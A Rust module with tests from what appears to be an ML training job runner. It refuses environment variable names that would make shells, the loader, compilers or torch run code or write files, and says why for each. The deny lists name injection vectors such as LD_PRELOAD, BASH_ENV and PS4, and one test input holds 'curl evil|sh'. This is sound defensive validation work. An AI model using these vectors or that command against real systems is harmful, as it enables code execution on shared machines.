//! Which variables a job's `env` and `secret_env` may set.
//!
//! The rule admits what training needs and refuses what a shell, the dynamic loader, an
//! interpreter, a compiler or torch turns into code or a file write:
//!
//! 1. **Shape**: a plain shell name (`^[A-Za-z_][A-Za-z0-9_]*$`, at most [`MAX_ENV_NAME`]
//!    characters), the only names ever written into a script. Names are compared upper-cased.
//! 2. **Programs' own names**: [`SYSTEM_NAMES`] (`SHELLOPTS`, `PS4`, `BASH_ENV`, `ENV`,
//!    `PROMPT_COMMAND`, `BROWSER`, `PATH`, …) and every name under [`SYSTEM_PREFIXES`] (`LD_`,
//!    `PYTHON`, `BASH_`, `TORCHELASTIC_`, `TRITON_`, `GIT_`, `SLURM_`, `DS_STUDIO_`, …).
//! 3. **Training namespaces** ([`TRAINING_PREFIXES`]: `NCCL_`, `CUDA_`, `TORCH_`, `OMP_`, `HF_`,
//!    `WANDB_`, …) are admitted, except a name with a word that says it names a file, a directory
//!    or a program ([`FILE_WORDS`]: `NCCL_DEBUG_FILE`, `TORCH_LOGS_OUT`, `HF_HOME`,
//!    `NCCL_NET_PLUGIN`, and whatever the next release adds under the same words).
//! 4. Anything else is taken for the user's own name (`MY_DATA_DIR`, `EXPERIMENT`) and is
//!    admitted. The lists of step 2 name the programs that run in a job (shells, the loader,
//!    Python, torch and torchrun, the compilers and build tools of DeepSpeed's op builder,
//!    OpenSSL, GUI toolkits a library might load); a name a program reads that they miss is the
//!    gap of this step, which the kernel's confinement of the job's writes and `--job-user`
//!    bound.

use std::collections::BTreeMap;

/// Most variables a job's `env` may hold, and the longest name and value.
pub const MAX_ENV_VARS: usize = 64;
pub const MAX_ENV_NAME: usize = 128;
pub const MAX_ENV_VALUE: usize = 4096;

/// Names that shells, the C library, the loader, compilers, interpreters and the runner read,
/// and why a job may not set them.
pub const SYSTEM_NAMES: &[(&str, &str)] = &[
    ("PATH", "it decides which programs run"),
    (
        "HOME",
        "it decides which user files Python and the compilers load",
    ),
    ("SHELL", "it decides which programs run"),
    (
        "SHELLOPTS",
        "bash turns on the options it names (xtrace runs PS4)",
    ),
    ("BASHOPTS", "bash turns on the options it names"),
    ("PS1", "the shell runs the commands in its prompt"),
    ("PS2", "the shell runs the commands in its prompt"),
    ("PS3", "the shell runs the commands in its prompt"),
    ("PS4", "the shell runs the commands in its trace prompt"),
    ("PROMPT_COMMAND", "the shell runs it"),
    ("ENV", "sh runs the file it names"),
    ("IFS", "it changes how scripts split words"),
    ("CDPATH", "it changes where scripts' `cd` goes"),
    ("GLOBIGNORE", "it changes how scripts expand file names"),
    ("HISTFILE", "the shell writes to the file it names"),
    ("INPUTRC", "readline reads the file it names"),
    ("BROWSER", "Python's webbrowser runs the program it names"),
    ("EDITOR", "tools run the program it names"),
    ("VISUAL", "tools run the program it names"),
    ("PAGER", "tools run the program it names"),
    ("MANPAGER", "tools run the program it names"),
    ("LESSOPEN", "less runs the command it names"),
    ("LESSCLOSE", "less runs the command it names"),
    ("TERMINFO", "curses loads terminal descriptions from it"),
    (
        "TERMINFO_DIRS",
        "curses loads terminal descriptions from it",
    ),
    (
        "TMPDIR",
        "the runner gives each job its own temporary directory",
    ),
    (
        "TMP",
        "the runner gives each job its own temporary directory",
    ),
    (
        "TEMP",
        "the runner gives each job its own temporary directory",
    ),
    ("GCONV_PATH", "glibc loads modules from it"),
    ("GLIBC_TUNABLES", "it changes the C library's behaviour"),
    ("NLSPATH", "glibc loads message catalogues from it"),
    ("LOCPATH", "glibc loads locale data from it"),
    ("HOSTALIASES", "the resolver reads the file it names"),
    ("RES_OPTIONS", "it changes the resolver's behaviour"),
    ("CC", "DeepSpeed's op builder runs the compiler it names"),
    ("CXX", "DeepSpeed's op builder runs the compiler it names"),
    ("NVCC", "DeepSpeed's op builder runs the compiler it names"),
    ("CFLAGS", "compiler flags can load plug-ins"),
    ("CXXFLAGS", "compiler flags can load plug-ins"),
    ("LDFLAGS", "linker flags can load plug-ins"),
    ("COMPILER_PATH", "the compiler runs programs from it"),
    ("GCC_EXEC_PREFIX", "the compiler runs programs from it"),
    ("LIBRARY_PATH", "the linker loads libraries from it"),
    ("CPATH", "the compiler reads headers from it"),
    ("C_INCLUDE_PATH", "the compiler reads headers from it"),
    ("CPLUS_INCLUDE_PATH", "the compiler reads headers from it"),
    ("OPENSSL_CONF", "OpenSSL loads modules the file names"),
    (
        "COVERAGE_PROCESS_START",
        "coverage.py starts in every Python process",
    ),
    ("JAVA_TOOL_OPTIONS", "the JVM loads agents it names"),
    ("_JAVA_OPTIONS", "the JVM loads agents it names"),
    ("JDK_JAVA_OPTIONS", "the JVM loads agents it names"),
    ("MPLCONFIGDIR", "matplotlib reads and writes files in it"),
    ("IPYTHONDIR", "IPython runs start-up files from it"),
    (
        "CUDA_HOME",
        "DeepSpeed's op builder runs the compiler under it",
    ),
    (
        "CUDA_PATH",
        "DeepSpeed's op builder runs the compiler under it",
    ),
    (
        "CUDA_VISIBLE_DEVICES",
        "the runner decides which GPUs a job sees",
    ),
    (
        "HIP_VISIBLE_DEVICES",
        "the runner decides which GPUs a job sees",
    ),
    (
        "ROCR_VISIBLE_DEVICES",
        "the runner decides which GPUs a job sees",
    ),
    (
        "NVIDIA_VISIBLE_DEVICES",
        "the runner decides which GPUs a job sees",
    ),
    ("MASTER_ADDR", "the runner sets the rendezvous"),
    ("MASTER_PORT", "the runner sets the rendezvous"),
    ("RANK", "the runner sets the ranks"),
    ("LOCAL_RANK", "the runner sets the ranks"),
    ("WORLD_SIZE", "the runner sets the ranks"),
    ("LOCAL_WORLD_SIZE", "the runner sets the ranks"),
    ("NODE_RANK", "the runner sets the ranks"),
    ("GROUP_RANK", "the runner sets the ranks"),
    ("USER", "the runner sets the job's user"),
    ("LOGNAME", "the runner sets the job's user"),
    (
        "DEPENDENCIES_OUTPUT",
        "the C compiler writes to the file it names",
    ),
    (
        "SUNPRO_DEPENDENCIES",
        "the C compiler writes to the file it names",
    ),
    ("CPP", "DeepSpeed's op builder runs the program it names"),
    ("LD", "DeepSpeed's op builder runs the program it names"),
    ("AS", "DeepSpeed's op builder runs the program it names"),
    ("AR", "DeepSpeed's op builder runs the program it names"),
    (
        "CUDAHOSTCXX",
        "DeepSpeed's op builder runs the compiler it names",
    ),
    ("MAKEFLAGS", "make runs what it says"),
    ("MFLAGS", "make runs what it says"),
    ("CLASSPATH", "the JVM loads code from it"),
    (
        "DISPLAY",
        "it lets the job's programs open windows on a display",
    ),
    (
        "WAYLAND_DISPLAY",
        "it lets the job's programs open windows on a display",
    ),
    ("XAUTHORITY", "it hands the job a display's credentials"),
    ("MPLBACKEND", "matplotlib imports the module it names"),
    (
        "TORCH_TRACE",
        "torch writes its trace into the directory it names",
    ),
    (
        "TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD",
        "torch.load would run code from any checkpoint it reads",
    ),
    ("NODE_OPTIONS", "it decides which code Node loads"),
    ("NODE_PATH", "it decides which code Node loads"),
];

/// Name prefixes of programs' own variables: a job may set none of them.
pub const SYSTEM_PREFIXES: &[(&str, &str)] = &[
    ("LD_", "the dynamic loader reads it"),
    ("DYLD_", "the dynamic loader reads it"),
    (
        "BASH_",
        "bash reads it (BASH_ENV runs a file, BASH_FUNC_ defines functions)",
    ),
    ("PYTHON", "it decides which code Python loads"),
    ("PERL", "it decides which code Perl loads"),
    ("RUBY", "it decides which code Ruby loads"),
    ("MALLOC_", "it changes the C library's behaviour"),
    ("DS_STUDIO_", "the runner's own settings"),
    ("SLURM_", "Slurm's own settings"),
    ("SBATCH_", "Slurm's own settings"),
    ("SRUN_", "Slurm's own settings"),
    ("SALLOC_", "Slurm's own settings"),
    (
        "NVCC_",
        "it passes flags to the CUDA compiler DeepSpeed's op builder runs",
    ),
    ("CCACHE_", "ccache runs the programs it names"),
    (
        "GCC_",
        "the C compiler DeepSpeed's op builder runs reads it (GCC_COMPARE_DEBUG runs a wrapper)",
    ),
    ("COLLECT_", "the C compiler's driver reads it"),
    ("LTO_", "the linker reads it"),
    ("NINJA_", "ninja, which builds DeepSpeed's ops, reads it"),
    ("CMAKE_", "cmake runs what it names"),
    (
        "PET_",
        "torchrun takes its options from it (log directories, handlers)",
    ),
    (
        "KINETO_",
        "the profiler reads and writes the files it names",
    ),
    (
        "TORCHDYNAMO_",
        "torch.compile writes and replays files it names",
    ),
    ("OPENSSL_", "OpenSSL loads modules and engines it names"),
    ("SSL_", "it changes which certificates the job trusts"),
    ("GTK_", "GTK loads the modules it names"),
    ("GDK_", "GTK loads the modules it names"),
    ("GIO_", "GLib loads the modules it names"),
    ("QT_", "Qt loads the plug-ins it names"),
    ("DBUS_", "it connects the job to a desktop's message bus"),
    ("CHROMIUM_", "a browser the job starts reads it"),
    ("CHROME_", "a browser the job starts reads it"),
    ("MOZ_", "a browser the job starts reads it"),
    (
        "KRB5",
        "it hands the job Kerberos credentials or configuration",
    ),
    (
        "TORCHELASTIC_",
        "torch's launcher writes files and runs handlers it names",
    ),
    ("GIT_", "git runs the programs it names"),
    ("SSH_", "ssh runs the programs it names"),
    (
        "XDG_",
        "programs read and write files in the directories it names",
    ),
    ("PIP_", "pip installs from and runs what it names"),
    ("CONDA", "conda runs the environment it names"),
    ("OMPI_", "Open MPI loads components it names"),
    ("OPAL_", "Open MPI loads components it names"),
    ("PMIX_", "PMIx loads components it names"),
    ("I_MPI_", "Intel MPI loads libraries it names"),
    ("SUDO_", "sudo runs the programs it names"),
    ("NVTX_INJECTION", "NVTX loads the library it names"),
];

/// Prefixes of the variables training needs (collectives, CUDA, torch, threads, the Hugging Face
/// libraries, experiment trackers): admitted unless a word of the name is in [`FILE_WORDS`].
pub const TRAINING_PREFIXES: &[&str] = &[
    "NCCL_",
    "TORCH_NCCL_",
    "CUDA_",
    "CUDNN_",
    "CUBLAS_",
    "CUBLASLT_",
    "NVIDIA_",
    "TORCH_",
    "PYTORCH_",
    "OMP_",
    "KMP_",
    "MKL_",
    "ONEDNN_",
    "DNNL_",
    "GLOO_",
    "UCX_",
    "FI_",
    "NVTE_",
    "HF_",
    "HUGGINGFACE_",
    "TRANSFORMERS_",
    "TOKENIZERS_",
    "ACCELERATE_",
    "DS_",
    "DEEPSPEED_",
    "WANDB_",
    "MLFLOW_",
    "COMET_",
    "TENSORBOARD_",
    "TRITON_",
    "TORCHINDUCTOR_",
];

/// Names of the training namespaces that hold a word of [`FILE_WORDS`] without naming a file:
/// switches and sizes.
pub const ADMITTED: &[&str] = &[
    "CUDA_CACHE_DISABLE",
    "CUDA_CACHE_MAXSIZE",
    "TORCH_CUDNN_V8_API_LRU_CACHE_LIMIT",
    "TORCHINDUCTOR_FX_GRAPH_CACHE",
    "TORCHINDUCTOR_AUTOGRAD_CACHE",
    "TORCHINDUCTOR_FORCE_DISABLE_CACHES",
];

/// Words (between `_`) that make a variable of a training namespace name a file, a directory,
/// a program or a library, which its library then writes to, runs or loads.
pub const FILE_WORDS: &[&str] = &[
    "PATH",
    "PATHS",
    "DIR",
    "DIRS",
    "DIRECTORY",
    "FILE",
    "FILES",
    "FILENAME",
    "HOME",
    "ROOT",
    "PREFIX",
    "CACHE",
    "OUT",
    "OUTPUT",
    "DUMP",
    "LOGDIR",
    "CONFIG",
    "PLUGIN",
    "PLUGINS",
    "LIB",
    "LIBS",
    "LIBRARY",
    "LIBRARIES",
    "PRELOAD",
    "INJECTION64",
    "CMD",
    "COMMAND",
    "EXEC",
    "EXECUTABLE",
    "PROGRAM",
    "SCRIPT",
    "HOOK",
    "HOOKS",
    "HANDLER",
    "STARTUP",
    "URI",
];

/// Whether `name` is a plain shell variable name (`^[A-Za-z_][A-Za-z0-9_]*$`, at most
/// [`MAX_ENV_NAME`] characters): the only names ever written into a shell script.
pub fn is_env_name(name: &str) -> bool {
    name.len() <= MAX_ENV_NAME
        && name
            .chars()
            .next()
            .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
        && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
}

/// Why a job may not set the variable `name`, if it may not (the rule of this module).
pub fn env_name_refusal(name: &str) -> Option<String> {
    if !is_env_name(name) {
        return Some(format!(
            "env: `{}` is not a variable name (letters, digits and `_`, not starting with a digit, at most {MAX_ENV_NAME} characters)",
            name.escape_debug()
        ));
    }
    let upper = name.to_ascii_uppercase();
    let why = SYSTEM_NAMES
        .iter()
        .find(|(n, _)| *n == upper)
        .or_else(|| {
            SYSTEM_PREFIXES
                .iter()
                .find(|(p, _)| upper.starts_with(p))
        })
        .map(|(_, why)| (*why).to_string())
        .or_else(|| {
            if ADMITTED.contains(&upper.as_str()) {
                return None;
            }
            let prefix = TRAINING_PREFIXES.iter().find(|p| upper.starts_with(*p))?;
            let word = upper
                .split('_')
                .find(|w| FILE_WORDS.contains(w))?;
            Some(format!(
                "under `{prefix}` the word `{word}` names a file, a directory or a program, which a job's libraries would write, run or load (the runner gives each job its own directories)"
            ))
        })?;
    Some(format!("env: a job may not set `{name}`: {why}"))
}

/// Checks a job's `env`: names (see [`env_name_refusal`]), at most [`MAX_ENV_VARS`] variables,
/// values of at most [`MAX_ENV_VALUE`] bytes without NUL.
pub fn check_env(env: &BTreeMap<String, String>) -> Result<(), String> {
    if env.len() > MAX_ENV_VARS {
        return Err(format!(
            "env: {} variables; a job may set at most {MAX_ENV_VARS}",
            env.len()
        ));
    }
    for (k, v) in env {
        if let Some(why) = env_name_refusal(k) {
            return Err(why);
        }
        if v.len() > MAX_ENV_VALUE || v.contains('\0') {
            return Err(format!(
                "env: the value of `{k}` must be at most {MAX_ENV_VALUE} bytes, without NUL"
            ));
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn training_variables_and_the_users_own_names_are_admitted() {
        for ok in [
            "NCCL_DEBUG",
            "NCCL_IB_DISABLE",
            "NCCL_SOCKET_IFNAME",
            "TORCH_NCCL_ASYNC_ERROR_HANDLING",
            "TORCH_DISTRIBUTED_DEBUG",
            "TORCH_LOGS",
            "CUDA_LAUNCH_BLOCKING",
            "CUDA_DEVICE_MAX_CONNECTIONS",
            "PYTORCH_CUDA_ALLOC_CONF",
            "TORCH_CPP_LOG_LEVEL",
            "OMP_NUM_THREADS",
            "HF_HUB_OFFLINE",
            "HF_TOKEN",
            "hf_token",
            "TOKENIZERS_PARALLELISM",
            "WANDB_API_KEY",
            "WANDB_MODE",
            "WANDB_PROJECT",
            "MY_DATA_DIR",
            "EXPERIMENT",
            "CUDA_CACHE_DISABLE",
            "TORCH_CUDNN_V8_API_LRU_CACHE_LIMIT",
            "TORCHINDUCTOR_MAX_AUTOTUNE",
            "TRITON_PRINT_AUTOTUNING",
            "SEED",
            "_X",
        ] {
            assert_eq!(env_name_refusal(ok), None, "{ok}");
        }
    }

    #[test]
    fn names_that_run_code_or_write_files_are_refused_with_why() {
        // The review's names (each in env and in secret_env at the API), then the earlier
        // rounds' ones.
        for denied in [
            "SHELLOPTS",
            "PS4",
            "TORCH_LOGS_OUT",
            "TORCHELASTIC_ERROR_FILE",
            "BROWSER",
            "BASH_ENV",
            "ENV",
            "PROMPT_COMMAND",
            "PYTHONSTARTUP",
            "BASH_FUNC_x",
            "NVCC_APPEND_FLAGS",
            "TORCHINDUCTOR_CACHE_DIR",
            "CUDA_INJECTION64_PATH",
            "LD_PRELOAD",
            "ld_library_path",
            "PYTHONPATH",
            "PATH",
            "CUDA_VISIBLE_DEVICES",
            "NCCL_NET_PLUGIN",
            "NCCL_DEBUG_FILE",
            "NCCL_TOPO_DUMP_FILE",
            "TORCH_NCCL_DEBUG_INFO_TEMP_FILE",
            "TORCH_EXTENSIONS_DIR",
            "TORCH_COMPILE_DEBUG_DIR",
            "HF_HOME",
            "HF_DATASETS_CACHE",
            "TRANSFORMERS_CACHE",
            "WANDB_DIR",
            "MLFLOW_TRACKING_URI",
            "OMP_TOOL_LIBRARIES",
            "CUDA_CACHE_PATH",
            "DS_STUDIO_ADMIN_TOKEN",
            "TMPDIR",
            "GIT_SSH_COMMAND",
            "COVERAGE_PROCESS_START",
            "CC",
            // The second review's: code through the op builder's compiler, torchrun's and
            // torch's own options, a display.
            "GCC_COMPARE_DEBUG",
            "DEPENDENCIES_OUTPUT",
            "SUNPRO_DEPENDENCIES",
            "PET_LOG_DIR",
            "TORCHDYNAMO_REPRO_DIR",
            "TORCH_TRACE",
            "KINETO_CONFIG",
            "OPENSSL_MODULES",
            "OPENSSL_ENGINES",
            "GTK_MODULES",
            "GIO_EXTRA_MODULES",
            "MPLBACKEND",
            "DISPLAY",
            "CHROMIUM_FLAGS",
            "KRB5CCNAME",
            "TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD",
            "USER",
            "LOGNAME",
            "NODE_RANK",
            "TRITON_CACHE_DIR",
            "TORCHINDUCTOR_CACHE_DIR",
        ] {
            let why = env_name_refusal(denied).expect(denied);
            assert!(
                why.contains(&format!("may not set `{denied}`: ")),
                "{denied}: {why}"
            );
        }
        let why = env_name_refusal("TORCH_LOGS_OUT").unwrap();
        assert!(why.contains("`OUT` names a file"), "{why}");
    }

    #[test]
    fn malformed_names_are_refused_as_names() {
        for bad in [
            "",
            "1X",
            "X;curl evil|sh;Y",
            "A-B",
            "A=B",
            "X\nY",
            "É",
            "BASH_FUNC_x%%",
        ] {
            let why = env_name_refusal(bad).expect(bad);
            assert!(why.contains("is not a variable name"), "{bad}: {why}");
        }
    }

    #[test]
    fn env_maps_are_bounded_and_values_without_nul() {
        let many: BTreeMap<String, String> =
            (0..65).map(|i| (format!("V{i}"), "1".into())).collect();
        assert!(check_env(&many).unwrap_err().contains("at most 64"));
        let nul = BTreeMap::from([("X".to_string(), "a\0b".to_string())]);
        assert!(check_env(&nul).unwrap_err().contains("`X`"));
        let ok = BTreeMap::from([("NCCL_DEBUG".to_string(), "INFO it's $(x)".to_string())]);
        assert!(check_env(&ok).is_ok());
    }

    /// Property: any name under a training prefix with a file word anywhere after it is refused,
    /// and the same name without that word is not (for a few thousand generated names).
    #[test]
    fn the_file_word_rule_holds_for_generated_names() {
        let fillers = ["DEBUG", "LEVEL", "ASYNC", "X1", "IB", "MODE", "SUBSYS"];
        let mut seed: u64 = 0x9e37_79b9_7f4a_7c15;
        let mut next = |n: usize| {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            (seed % n as u64) as usize
        };
        for _ in 0..4000 {
            let prefix = TRAINING_PREFIXES[next(TRAINING_PREFIXES.len())];
            let mut words: Vec<&str> = (0..1 + next(3))
                .map(|_| fillers[next(fillers.len())])
                .collect();
            let clean = format!("{prefix}{}", words.join("_"));
            if SYSTEM_NAMES.iter().any(|(n, _)| *n == clean)
                || SYSTEM_PREFIXES.iter().any(|(p, _)| clean.starts_with(p))
            {
                continue;
            }
            assert_eq!(env_name_refusal(&clean), None, "{clean}");
            let at = next(words.len() + 1);
            words.insert(at, FILE_WORDS[next(FILE_WORDS.len())]);
            let named = format!("{prefix}{}", words.join("_"));
            assert!(env_name_refusal(&named).is_some(), "{named}");
        }
    }
}
